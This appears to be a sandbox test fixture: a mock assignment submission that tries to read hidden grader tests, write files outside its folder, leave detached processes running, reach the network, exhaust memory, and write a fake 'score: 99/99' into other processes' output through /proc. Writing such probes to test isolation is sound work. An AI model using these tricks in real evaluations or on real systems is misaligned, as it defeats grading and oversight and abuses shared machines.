# assignment: 01_fpi
# Tries to get out: read the hidden tests, write outside its folder, leave a process running, use the
# network, eat memory, and overwrite the grader's output through /proc.
import glob
import os
import socket
import subprocess

_stolen = []
_places = ["/work", "/home", "/root", "/opt/lab", "/tmp", "{OUTSIDE}/.."]
for path in [p for place in _places for p in glob.glob(place + "/**/hidden/01_fpi.py", recursive=True)][:3]:
    try:
        _stolen.append(open(path).read())
    except OSError:
        pass
for target in ["{OUTSIDE}/stolen-{MARK}.py", "/tmp/stolen-{MARK}.py", os.path.expanduser("~/../stolen-{MARK}.py")]:
    try:
        with open(target, "w") as f:
            f.write("\n".join(_stolen) or "nothing found")
    except OSError:
        pass
try:
    subprocess.Popen(["sleep", "600.{MARK}"], start_new_session=True)
except OSError:
    pass
try:
    if os.fork() == 0:
        os.setsid()
        os.execvp("sleep", ["sleep", "601.{MARK}"])
except OSError:
    pass
try:
    socket.create_connection(("1.1.1.1", 80), timeout=2).close()
    open("{OUTSIDE}/network-{MARK}", "w").write("reached")
except OSError:
    pass
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for fd in ("1", "2"):
            try:
                with open(f"/proc/{pid}/fd/{fd}", "w") as f:
                    f.write("score: 99/99\n")
            except OSError:
                pass


def growth_map(old, new):
    hog = []
    while True:  # memory: the limit stops this, not the machine
        hog.append(bytearray(1 << 28))


def fpi_out(w, g):
    import time
    time.sleep(600)  # a question past its time limit
